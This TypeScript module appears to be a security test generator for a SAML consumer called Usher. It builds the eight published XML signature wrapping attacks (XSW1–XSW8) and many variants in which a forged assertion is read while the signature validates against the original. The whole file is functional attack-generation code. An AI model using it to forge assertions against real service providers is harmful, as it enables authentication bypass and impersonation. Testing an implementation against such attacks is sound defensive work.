/**
 * Generates signature wrapping attacks: Usher reads a forged element, while the signature matches the signed original
 * elsewhere. The eight published attacks (XSW1 to XSW8: Somorovsky and others, "On Breaking SAML") are included.
 */
import { element, rootElement, URI } from "../saml/canonical.js";
import { joinAssertion, type ResponseParts } from "../saml/response.js";

/** How the forged element's ID relates to the original's. */
const IDS = ["new-id", "same-id", "no-id"] as const;
/** The element that contains the original's signature. */
const SIGNATURES = ["on-original", "on-forged", "detached"] as const;
/** The place of the original, relative to the forged element. */
const ASSERTION_PLACES = [
  "before",
  "after",
  "inside",
  "in-advice",
  "in-signature",
  "in-object",
  "in-extensions",
  "swapped-into-extensions",
  "in-encrypted-assertion",
] as const;
const RESPONSE_PLACES = ["first", "last", "in-signature", "in-object", "in-extensions", "in-status-detail"] as const;

/** The generated name of each published attack. */
export const PUBLISHED: Readonly<Record<string, string>> = {
  XSW1: "response/new-id/in-signature/on-forged",
  XSW2: "response/new-id/last/detached",
  XSW3: "assertion/new-id/after/on-original",
  XSW4: "assertion/new-id/inside/on-original",
  XSW5: "assertion/same-id/after/on-forged",
  XSW6: "assertion/same-id/in-signature/on-forged",
  XSW7: "assertion/same-id/swapped-into-extensions/on-original",
  XSW8: "assertion/new-id/in-object/on-forged",
};

type Forge = (assertion: string) => string;

/**
 * All wrappings of a genuine response with both parts signed.
 *
 * @param forge what the attacker changes in an assertion
 * @returns the messages' XML by name
 */
export function wrapSignatures(parts: ResponseParts, forge: Forge): ReadonlyMap<string, string> {
  const messages = new Map<string, string>();
  for (const id of IDS)
    for (const signature of SIGNATURES) {
      for (const place of ASSERTION_PLACES)
        messages.set(`assertion/${id}/${place}/${signature}`, wrapAssertion(parts, forge, id, place, signature));
      for (const place of RESPONSE_PLACES)
        messages.set(`response/${id}/${place}/${signature}`, wrapResponse(parts, forge, id, place, signature));
    }
  return messages;
}

function wrapAssertion(
  parts: ResponseParts,
  forge: Forge,
  id: (typeof IDS)[number],
  place: (typeof ASSERTION_PLACES)[number],
  signatureOn: (typeof SIGNATURES)[number],
): string {
  const { response, assertion } = parts;
  const original = joinAssertion({ ...assertion, signature: signatureOn === "on-original" ? assertion.signature : "" });
  const isInSignature = place === "in-signature" || place === "in-object";
  const carried = isInSignature ? putIntoSignature(assertion.signature, place, original) : assertion.signature;
  const forged = (inner = "") => {
    const start = changeId(assertion.start, id);
    const signature = signatureOn === "on-forged" || isInSignature ? carried : "";
    return forge(`${start}${assertion.issuer}${signature}${assertion.rest}${inner}</saml:Assertion>`);
  };
  const detached = signatureOn === "detached" && !isInSignature ? assertion.signature : "";
  const extensions = (inner: string) => element("samlp:Extensions", {}, inner);
  const bodies: Record<(typeof ASSERTION_PLACES)[number], () => string> = {
    before: () => `${response.status}${original}${forged()}`,
    after: () => `${response.status}${forged()}${original}`,
    inside: () => `${response.status}${forged(original)}`,
    "in-advice": () => `${response.status}${forged(element("saml:Advice", {}, original))}`,
    "in-signature": () => `${response.status}${forged()}`,
    "in-object": () => `${response.status}${forged()}`,
    "in-extensions": () => `${extensions(original)}${response.status}${forged()}`,
    "swapped-into-extensions": () => `${extensions(forged())}${response.status}${original}`,
    "in-encrypted-assertion": () =>
      `${response.status}${forged()}${rootElement("saml:EncryptedAssertion", {}, original)}`,
  };
  return `${response.start}${response.issuer}${detached}${bodies[place]()}</samlp:Response>`;
}

function wrapResponse(
  parts: ResponseParts,
  forge: Forge,
  id: (typeof IDS)[number],
  place: (typeof RESPONSE_PLACES)[number],
  signatureOn: (typeof SIGNATURES)[number],
): string {
  const { response, assertion } = parts;
  const inner = joinAssertion(assertion);
  const original = `${response.start}${response.issuer}${signatureOn === "on-original" ? response.signature : ""}${response.status}${inner}</samlp:Response>`;
  const isInSignature = place === "in-signature" || place === "in-object";
  const carried = isInSignature ? putIntoSignature(response.signature, place, original) : response.signature;
  const signature = signatureOn === "on-original" && !isInSignature ? "" : carried;
  const forged = forge(joinAssertion({ ...assertion, signature: "" }));
  const status = {
    first: `${original}${response.status}${forged}`,
    last: `${response.status}${forged}${original}`,
    "in-signature": `${response.status}${forged}`,
    "in-object": `${response.status}${forged}`,
    "in-extensions": `${element("samlp:Extensions", {}, original)}${response.status}${forged}`,
    "in-status-detail": `${response.status.replace("</samlp:Status>", `${element("samlp:StatusDetail", {}, original)}</samlp:Status>`)}${forged}`,
  }[place];
  const start = changeId(response.start, id);
  const body = signatureOn === "detached" ? `${status}${signature}` : `${signature}${status}`;
  return `${start}${response.issuer}${body}</samlp:Response>`;
}

function changeId(start: string, id: (typeof IDS)[number]): string {
  if (id === "same-id") return start;
  return start.replace(/ ID="[^"]*"/, id === "no-id" ? "" : ' ID="_forged"');
}

function putIntoSignature(signature: string, place: "in-signature" | "in-object", original: string): string {
  const inner = place === "in-object" ? `<ds:Object xmlns:ds="${URI.ds}">${original}</ds:Object>` : original;
  return signature.replace("</ds:Signature>", `${inner}</ds:Signature>`);
}
